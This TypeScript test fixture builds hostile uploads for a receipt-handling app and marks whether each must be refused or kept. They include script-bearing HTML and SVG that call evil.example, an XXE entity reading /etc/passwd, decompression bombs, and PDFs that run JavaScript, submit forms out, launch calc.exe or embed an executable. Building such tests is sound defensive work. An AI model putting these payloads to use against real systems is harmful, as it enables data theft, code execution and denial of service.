import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { bombPng, heicWith, pdfWith, photoOf, pngChunk, pngSaying } from './hostile-files';
import { picture, plainPdf } from './receipt-files';

const text = (value: string): Buffer => Buffer.from(value, 'latin1');
const PAGE =
  '<!DOCTYPE html><html><body><script>fetch("http://evil.example/x");alert(1)</script></body></html>';
const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="http://evil.example/x.png"/><script>alert(1)</script></svg>';

/** A part of a JPEG: its marker, its length, what it holds. */
function jpegPart(marker: number, body: Uint8Array): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
}

function photoWith(marker: number, body: Uint8Array): Buffer {
  const photo = photoOf(['TOTAL 4.00'], 300, 400);
  return Buffer.concat([photo.subarray(0, 2), jpegPart(marker, body), photo.subarray(2)]);
}

/** The camera’s notes, with where the photo was taken: 53°48′ north, 1°33′ west. */
function photoWithPlace(): Buffer {
  const gps =
    '0003' +
    '0001000200000002' +
    '4e000000' +
    '0002000500000003' +
    '00000038' +
    '0003000200000002' +
    '57000000';
  const tiff = Buffer.from(
    `4d4d002a00000008${'00018825000400000001'}0000001a00000000${gps}00000000${'00000035000000010000003000000001'}`,
    'hex',
  );
  return photoWith(0xe1, Buffer.concat([text('Exif\0\0'), tiff]));
}

function photoSaying(width: number, height: number): Buffer {
  const photo = photoOf(['TOTAL 4.00'], 100, 100);
  const frame = photo.indexOf(Buffer.from([0xff, 0xc0]));
  photo.writeUInt16BE(height, frame + 5);
  photo.writeUInt16BE(width, frame + 7);
  return photo;
}

/** A sound picture with one more part after its header. */
function shotWith(type: string, data: Uint8Array): Buffer {
  const shot = picture(200, 300);
  return Buffer.concat([shot.subarray(0, 33), pngChunk(type, data), shot.subarray(33)]);
}

/** A PDF whose page is drawn by a stream that unpacks to much more than it is. */
function pdfOfStream(content: Uint8Array): Buffer {
  const packed = deflateSync(content).toString('latin1');
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed}\nendstream`,
  ]);
}

/** A PDF of these objects, the first being its catalogue. */
export function pdfOf(objects: readonly string[]): Buffer {
  let whole = '%PDF-1.7\n';
  const offsets = objects.map((body, index) => {
    const at = whole.length;
    whole += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const table = whole.length;
  whole += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const at of offsets) whole += `${String(at).padStart(10, '0')} 00000 n \n`;
  return text(`${whole}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`);
}

/** A PDF that does something by itself, packed so that its plain bytes do not say so. */
async function packedPdf(action: 'JavaScript' | 'Launch' | 'files'): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  const { context } = document;
  if (action === 'files')
    await document.attach(text('MZ'), 'invoice.exe', { mimeType: 'application/x-msdownload' });
  else
    document.catalog.set(
      PDFName.of('OpenAction'),
      context.register(
        context.obj({
          S: action,
          ...(action === 'JavaScript'
            ? { JS: PDFString.of('app.alert(1)') }
            : { F: PDFString.of('calc.exe') }),
        }),
      ),
    );
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

export type HostileReceipt = {
  readonly what: string;
  /** The name it comes under. */
  readonly name: string;
  make(): Uint8Array | Promise<Uint8Array>;
  /** Whether it may be kept; `told` is what has to be told of it then. */
  readonly kept: boolean;
  readonly told?: 'scripts' | 'files';
};

const kept = (
  what: string,
  name: string,
  make: HostileReceipt['make'],
  told?: 'scripts' | 'files',
): HostileReceipt => ({
  what,
  name,
  make,
  kept: true,
  ...(told === undefined ? {} : { told }),
});
const refused = (what: string, name: string, make: HostileReceipt['make']): HostileReceipt => ({
  what,
  name,
  make,
  kept: false,
});

const JS = '<< /S /JavaScript /JS (app.alert\\(1\\);this.submitForm\\("http://evil.example"\\)) >>';
const SELF_CALLING =
  '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 6 0 R /B 6 0 R >> >> /Length 10 >>\nstream\n/A Do /B Do\nendstream';

/** Thirty files and more that mean harm, each with what must become of it. */
export const HOSTILE_RECEIPTS: readonly HostileReceipt[] = [
  refused('a page named as a photo', 'receipt.jpg', () => text(PAGE)),
  refused('a page named as a PDF', 'receipt.pdf', () => text(PAGE)),
  refused('a drawing with a script', 'receipt.svg', () => text(SVG)),
  refused('a drawing named as a photo', 'receipt.png', () =>
    text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${SVG}`),
  ),
  refused('a program named as a picture', 'receipt.png', () => text('MZ\x90\0 and so on')),
  refused('a ZIP named as a photo', 'receipt.jpg', () => text('PK\x03\x04 and so on')),
  refused('a GIF that is a script too', 'receipt.gif', () => text('GIF89a/*\x01\x01*/=1;alert(1)')),
  refused('a picture of 20,000 by 20,000', 'receipt.png', () =>
    pngSaying(20_000, 20_000, deflateSync(Buffer.alloc(1000))),
  ),
  refused('a picture that unpacks to far more', 'receipt.png', bombPng),
  refused('a photo of 65,535 by 65,535', 'receipt.jpg', () => photoSaying(65_535, 65_535)),
  refused('a photo cut off', 'receipt.jpg', () => photoOf(['TOTAL 4.00'], 300, 400).subarray(0, -900)),
  refused('a PDF that is only a beginning', 'receipt.pdf', () => text('%PDF-1.7\nno more')),
  refused('a PDF that is a page', 'receipt.pdf', () => text(`%PDF-1.7\n${PAGE}`)),
  refused('a PDF whose pages are each other', 'receipt.pdf', () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 9 >>',
      '<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 9 >>',
    ]),
  ),
  kept('a photo with where it was taken', 'receipt.jpg', photoWithPlace),
  kept('a photo with a page behind it', 'receipt.jpg', () =>
    Buffer.concat([photoOf(['TOTAL 4.01'], 300, 400), text(PAGE)]),
  ),
  kept('a photo with a page in its comment', 'receipt.html', () => photoWith(0xfe, text(PAGE))),
  kept('a picture with a page in its text', 'receipt.png', () => shotWith('tEXt', text(`Comment\0${PAGE}`))),
  kept('a picture with 50 MB of packed text', 'receipt.png', () =>
    shotWith('zTXt', Buffer.concat([text('Comment\0\0'), deflateSync(Buffer.alloc(50_000_000, 65))])),
  ),
  kept('a picture with 50 MB of packed colours', 'receipt.png', () =>
    shotWith('iCCP', Buffer.concat([text('Colours\0\0'), deflateSync(Buffer.alloc(50_000_000, 65))])),
  ),
  kept('a HEIC photo of rubbish', 'receipt.heic', () => heicWith(Buffer.alloc(4000, 0xff))),
  kept('a PDF that runs a script when opened', 'receipt.pdf', () => pdfWith(`/OpenAction ${JS}`), 'scripts'),
  kept('a PDF that runs a script of a page', 'receipt.pdf', () => pdfWith(`/AA << /WC ${JS} >>`), 'scripts'),
  kept(
    'a PDF whose script has another spelling',
    'receipt.pdf',
    () => pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'),
    'scripts',
  ),
  kept('a PDF whose script is packed away', 'receipt.pdf', () => packedPdf('JavaScript'), 'scripts'),
  kept(
    'a PDF that starts a program',
    'receipt.pdf',
    () => pdfWith('/OpenAction << /S /Launch /F (calc.exe) >>'),
    'scripts',
  ),
  kept(
    'a PDF that starts a program, spelled otherwise',
    'receipt.pdf',
    () => pdfWith('/OpenAction << /S /L#61unch /F (calc.exe) >>'),
    'scripts',
  ),
  kept('a PDF whose start of a program is packed away', 'receipt.pdf', () => packedPdf('Launch'), 'scripts'),
  kept(
    'a PDF that opens an address',
    'receipt.pdf',
    () => pdfWith('/OpenAction << /S /URI /URI (http://evil.example/) >>'),
    'scripts',
  ),
  kept(
    'a PDF that sends a form',
    'receipt.pdf',
    () => pdfWith('/OpenAction << /S /SubmitForm /F (http://evil.example/) >>'),
    'scripts',
  ),
  kept(
    'a PDF that opens another file',
    'receipt.pdf',
    () => pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
    'scripts',
  ),
  kept(
    'a PDF with a form of its own kind',
    'receipt.pdf',
    () => pdfWith('/AcroForm << /XFA 6 0 R /Fields [] >>', '<< /Length 4 >>\nstream\n<a/>\nendstream'),
    'scripts',
  ),
  kept(
    'a PDF with a film',
    'receipt.pdf',
    () => pdfWith('/OpenAction << /S /Rendition /RichMedia 6 0 R >>', '<< >>'),
    'scripts',
  ),
  kept(
    'a PDF with a file inside',
    'receipt.pdf',
    () =>
      pdfWith(
        '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
        '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
      ),
    'files',
  ),
  kept('a PDF with a file packed away', 'receipt.pdf', () => packedPdf('files'), 'files'),
  kept('a PDF whose stream lies at an address', 'receipt.pdf', () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
      '<< /Length 0 /F << /FS /URL /F (http://evil.example/x) >> >>\nstream\n\nendstream',
    ]),
  ),
  kept('a PDF that is a page too', 'receipt.html', () =>
    Buffer.concat([plainPdf('Total 12.50'), text(PAGE)]),
  ),
  kept('a PDF of a page a mile wide', 'receipt.pdf', () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 999999999 999999999] >>',
    ]),
  ),
  kept('a PDF that draws itself in itself', 'receipt.pdf', () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /A 6 0 R >> >> >>',
      '<< /Length 5 >>\nstream\n/A Do\nendstream',
      '<< >>',
      SELF_CALLING,
    ]),
  ),
  kept('a PDF whose page unpacks to 200 MB', 'receipt.pdf', () =>
    pdfOfStream(Buffer.alloc(200_000_000, 0x20)),
  ),
  kept('a PDF with a hundred thousand drawings', 'receipt.pdf', () =>
    pdfOfStream(text('0 0 595 842 re f\n'.repeat(400_000))),
  ),
];
